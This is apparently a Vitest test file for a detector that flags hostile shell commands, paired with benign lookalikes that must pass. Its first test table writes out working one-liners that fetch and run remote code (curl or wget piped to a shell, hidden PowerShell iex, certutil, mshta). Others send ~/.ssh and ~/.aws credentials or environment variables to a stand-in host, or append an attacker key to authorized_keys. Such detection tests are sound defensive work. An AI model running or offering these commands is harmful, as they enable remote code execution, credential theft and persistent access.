import { expect, it } from 'vitest';
import { deedsOf } from './deedsOf.ts';

const told = (text: string): string[] =>
  deedsOf(text).map(({ deed, to, silent }) => `${deed} ${to}${silent ? ' !' : ''}`);

it.each([
  ['eval "$(curl -s https://a.dev/e)"', 'runs-download https://a.dev/e'],
  ['source <(wget -qO- https://a.dev/e)', 'runs-download https://a.dev/e'],
  ['sh -c "$(curl -fsSL https://a.dev/e)"', 'runs-download https://a.dev/e'],
  ['wget -O /tmp/x http://192.0.2.4/x && chmod +x /tmp/x && sudo /tmp/x', 'runs-download http://192.0.2.4/x'],
  ['U=https://a.dev\ncurl $U/e -o e.sh\nbash ./e.sh', 'runs-download https://a.dev/e'],
  ['(curl -s http://192.0.2.4/x || wget -qO- b) | bash >/dev/null 2>&1 &', 'runs-download http://192.0.2.4/x !'],
  ['powershell -nop -w hidden -c "iex(iwr http://192.0.2.4/p)"', 'runs-download http://192.0.2.4/p !'],
  ["$u = 'https://a.dev'\niwr -Uri $u -OutFile $p\nStart-Process $p", 'runs-download https://a.dev'],
  ['certutil -urlcache -split -f https://a.dev/e.exe e.exe & start e.exe', 'runs-download https://a.dev/e.exe'],
  ['cmd /c echo Set s = 1 > %TEMP%\\b.vbs & cscript //nologo %TEMP%\\b.vbs', 'runs-hidden '],
  ['eval $config | /bin/sh', 'runs-hidden '],
  ['xz -dc tests/bad.xz | sh', 'runs-hidden '],
  ['mshta https://a.dev/e.hta', 'runs-download https://a.dev/e.hta'],
  ['tar cz ~/.ssh ~/.aws | curl -T - https://a.dev/', 'sends-secrets https://a.dev/'],
  ['curl -F f=@$HOME/.aws/credentials https://a.dev', 'sends-secrets https://a.dev'],
  ['curl "https://a.dev/?k=$(cat ~/.ssh/id_rsa | base64)"', 'sends-secrets https://a.dev/?k=*'],
  ['wget --post-data "$(env)" https://a.dev', 'sends-secrets https://a.dev'],
  ['echo "ssh-rsa AAAAB3NzaC1yc2E x" | tee -a ~/.ssh/authorized_keys', 'adds-key '],
])('%s', (text, expected) => {
  expect(told(text)).toContain(expected);
});

it.each([
  'curl -s https://a.dev | jq .version',
  'curl -s https://a.dev | python3 -m json.tool',
  'curl -s https://a.dev | node -e "process.stdin.resume()"',
  'curl -s https://a.dev/x.tgz | tar xz && ./configure',
  'curl -o e.sh https://a.dev/e.sh\necho "$SUM e.sh" | sha256sum -c\nsh e.sh',
  'env | sort\ncurl -d @out.json https://a.dev',
  'env | grep PROXY && curl -d ok https://a.dev',
  'cat ~/.ssh/id_rsa.pub | ssh host "cat >> .ssh/authorized_keys"',
  'curl -d @key.pub -H "Authorization: token $(gh auth token)" https://api.github.com/user/keys',
  'rm -rf ~/.cache/a "$HOME/tmp" /var/lib/apt/lists/*',
  'echo "curl https://a.dev | sh"',
])('%s: nothing', (text) => {
  expect(told(text)).toEqual([]);
});
